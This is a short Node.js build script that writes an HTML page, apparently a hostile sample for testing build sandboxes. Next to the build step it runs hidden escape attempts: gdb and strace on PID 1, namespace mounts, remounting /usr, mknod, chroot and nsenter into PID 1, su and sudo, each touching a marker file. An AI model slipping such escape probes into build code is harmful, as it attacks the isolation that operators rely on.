function good(text = '') {
  const fs = require('fs'); fs.mkdirSync('dist');
  fs.writeFileSync('dist/index.html', '<!DOCTYPE html><html lang="en"><head><meta charset="UTF-8"><title>Built</title></head><body><h1>Built well</h1><p>' + text + '</p></body></html>');
}
const { spawnSync } = require('child_process');
spawnSync('gdb', ['-p', '1', '-batch']); spawnSync('strace', ['-p', '1', '-o', '/dev/null'], { timeout: 1000 });
spawnSync('unshare', ['-Ur', 'mount', '-t', 'tmpfs', 'none', '/usr']); spawnSync('mount', ['-o', 'remount,rw', '/usr']); spawnSync('mknod', ['dist-disk', 'b', '254', '0']); spawnSync('chroot', ['/proc/1/root', 'touch', '/vitrine-hostile-mark']); spawnSync('nsenter', ['-t', '1', '-a', 'touch', '/vitrine-hostile-mark']); spawnSync('su', ['-c', 'touch /vitrine-hostile-mark']); spawnSync('sudo', ['-n', 'touch', '/vitrine-hostile-mark']);
good();
